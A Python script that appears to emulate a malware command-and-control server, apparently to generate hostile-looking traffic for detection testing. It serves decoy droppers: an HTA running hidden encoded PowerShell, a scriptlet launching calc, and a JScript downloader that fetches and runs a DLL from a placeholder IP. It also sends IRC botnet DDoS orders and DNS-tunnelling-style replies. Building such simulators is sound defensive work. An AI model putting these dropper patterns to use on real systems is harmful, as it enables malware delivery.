#!/usr/bin/env python3
"""The other end outside.  master.py ADDRESS CERTIFICATE KEY

80, 443 and 8080 HTTP(S) that takes everything; 4443, 6606 and 3333 (TLS and plain) talk now and then; 6667 a chat's channel; 4444 to 4446 take bytes; 53 and 9999 (UDP).
"""
import asyncio
import os
import random
import socket
import ssl
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "common"))
from serving import shielded  # noqa: E402


def program(size):
    return b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0\xb8" + b"\0" * 43 + b"\x80\0\0\0\x0e\x1f\xba\x0e\0\xb4\t\xcd!\xb8\1L\xcd!This program cannot be run in DOS mode.\r\r\n$" + b"\0" * 7 + b"PE\0\0L\1\5\0" + os.urandom(size)


async def web(reader, writer):
    while True:
        head = (await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 90)).decode("latin-1")
        fields = {k.lower(): v.strip() for k, _, v in (line.partition(":") for line in head.split("\r\n")[1:] if line)}
        left, path = int(fields.get("content-length") or 0), head.split(" ")[1]
        while left > 0 and (part := await reader.read(min(65536, left))):
            left -= len(part)
        kind = "text/html"
        if fields.get("upgrade"):
            writer.write(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n")
            while await reader.read(65536):
                pass
            return
        if path.endswith((".dll", ".dat")):
            body, kind = program(90_000), "application/octet-stream"
        elif path.endswith(".png"):
            body, kind = program(120_000), "image/png"
        elif path.endswith(".b64"):
            import base64
            body, kind = b"-----BEGIN CERTIFICATE-----\r\n" + base64.b64encode(program(60_000)) + b"\r\n-----END CERTIFICATE-----\r\n", "text/plain"
        elif path.endswith(".hta"):
            body, kind = b"<html><head><script language=\"VBScript\">\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Run \"powershell -nop -w hidden -enc SQBFAFgA\", 0\r\nself.close\r\n</script></head></html>", "application/hta"
        elif path.endswith(".sct"):
            body, kind = b"<?XML version=\"1.0\"?><scriptlet><registration progid=\"x\"><script language=\"JScript\"><![CDATA[ new ActiveXObject(\"WScript.Shell\").Run(\"cmd /c calc\"); ]]></script></registration></scriptlet>", "text/plain"
        elif path.endswith(".js"):
            body, kind = b"var x=new ActiveXObject('MSXML2.XMLHTTP');x.open('GET','http://203.0.113.70/p.dll',false);x.send();var st=new ActiveXObject('ADODB.Stream');st.Write(x.responseBody);new ActiveXObject('WScript.Shell').Run('rundll32 p.dll');", "application/javascript"
        elif fields.get("cookie", "").startswith("__gads"):
            body, kind = b"\x1f\x8b\x08\x08\0\0\0\0\0\0Document.txt\0" + os.urandom(300_000), "application/gzip"
        elif fields.get("content-type", "").startswith("multipart") and ":8080" in fields.get("host", ""):
            body = os.urandom(random.choice((132, 148, 148, 148, 148, 260, 60_000)))
        else:
            body = os.urandom(random.choice((0, 0, 0, 0, 48, 160)))
        writer.write(f"HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body)
        await writer.drain()


async def talk(reader, writer):
    """Hears, and asks for something every few seconds."""
    async def orders():
        while True:
            await asyncio.sleep(random.uniform(6, 18))
            writer.write(os.urandom(random.randint(40, 300)))
    task = asyncio.ensure_future(orders())
    try:
        while await reader.read(65536):
            pass
    finally:
        task.cancel()


async def chat(reader, writer):
    async def orders():
        writer.write(b":irc.example 001 bot :Welcome\r\n:irc.example 376 bot :End of /MOTD command.\r\n")
        for i in range(100):
            await asyncio.sleep(random.uniform(4, 9))
            writer.write((b":herder!h@x PRIVMSG #rxb0t :.ddos.syn 192.0.2.9 80 60\r\n", b":herder!h@x PRIVMSG #rxb0t :.sysinfo\r\n", b"PING :irc.example\r\n")[i % 3])
    task = asyncio.ensure_future(orders())
    try:
        while await reader.readline():
            pass
    finally:
        task.cancel()


async def takes(reader, writer):
    while await reader.read(65536):
        pass


class Names(asyncio.DatagramProtocol):
    def connection_made(self, transport):
        self.transport = transport

    def datagram_received(self, data, address):
        end = data.index(b"\0", 12) + 5
        kind = data[end - 3]
        if kind == 16:
            text = os.urandom(120).hex().encode() if b"stage" in data else os.urandom(random.choice((9, 9, 60))).hex().encode()
            rdata = bytes([len(text)]) + text
        elif kind in (5, 15):
            rdata = (b"\0\x0a" if kind == 15 else b"") + b"\x12" + os.urandom(9).hex().encode() + b"\xc0\x0c"
        else:
            self.transport.sendto(data[:2] + b"\x81\x83\0\1\0\0\0\0\0\0" + data[12:end], address)
            return
        self.transport.sendto(data[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + data[12:end] + b"\xc0\x0c\0" + bytes([kind]) + b"\0\1\0\0\0\5" + len(rdata).to_bytes(2, "big") + rdata, address)


class Sink(asyncio.DatagramProtocol):
    pass


async def main():
    address = sys.argv[1]
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(sys.argv[2], sys.argv[3])
    for port, handler, tls in ((80, web, None), (8080, web, None), (443, web, context), (8443, web, context), (6606, talk, context), (14433, talk, context), (5552, talk, None), (8000, talk, None), (4440, talk, None), (6667, chat, None), (4444, takes, None), (4445, takes, None), (4446, takes, None), (5555, takes, None)):
        await asyncio.start_server(shielded(handler), address, port, ssl=tls, backlog=256)
    loop = asyncio.get_running_loop()
    await loop.create_datagram_endpoint(Names, local_addr=(address, 53))
    sink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sink.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_000_000)
    sink.bind((address, 9999))
    await loop.create_datagram_endpoint(Sink, sock=sink)
    await asyncio.Event().wait()


asyncio.run(main())
